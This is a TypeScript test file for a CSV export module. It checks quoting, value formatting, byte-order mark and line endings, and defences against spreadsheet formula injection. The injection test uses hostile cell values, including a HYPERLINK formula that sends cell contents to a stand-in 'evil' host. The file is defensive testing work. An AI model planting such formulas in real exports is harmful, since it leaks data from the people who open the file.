import { parseCsv } from '../ingest/knowledge/csv';
import { CSV_BOM, csvField, toCsv } from './csv';

/** What a spreadsheet does: drop the byte-order mark, split RFC 4180 records. */
const readBack = (csv: string) => parseCsv(csv.replace(/^\uFEFF/, '')).map((r) => r.fields);

describe('CSV writer', () => {
  it('quotes only what needs it, doubling quotes', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('cr\ronly')).toBe('"cr\ronly"');
    expect(csvField('')).toBe('');
  });

  it('writes null as empty, numbers and booleans as such, arrays joined', () => {
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
    expect(csvField(33.3)).toBe('33.3');
    expect(csvField(-3)).toBe('-3');
    expect(csvField(Number.NaN)).toBe('');
    expect(csvField(true)).toBe('true');
    expect(csvField(['Servers', 'Finance'])).toBe('Servers; Finance');
  });

  it('neutralises formula injection in text cells with a leading apostrophe', () => {
    for (const danger of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx']) {
      expect(csvField(danger).replace(/^"|"$/g, '').startsWith(`'${danger[0]}`)).toBe(true);
    }
    expect(csvField('=HYPERLINK("http://evil/?"&A1,"x")')).toBe('"\'=HYPERLINK(""http://evil/?""&A1,""x"")"');
    expect(csvField(['=cmd'])).toBe("'=cmd");
    expect(csvField('a=b')).toBe('a=b');
  });

  it('a file: BOM, CRLF after every record, read back as written', () => {
    const note = 'Ünïcödé, "quotes"\nnew line — 日本語';
    const csv = toCsv(
      ['Name', 'Note', 'Count'],
      [
        ['first', note, 3],
        ['=2+2', null, -1],
      ]
    );
    expect(csv.startsWith(CSV_BOM)).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.split('\r\n')).toHaveLength(4); // three records and the empty rest after the last CRLF
    expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(readBack(csv)).toEqual([
      ['Name', 'Note', 'Count'],
      ['first', note, '3'],
      ["'=2+2", '', '-1'],
    ]);
  });
});
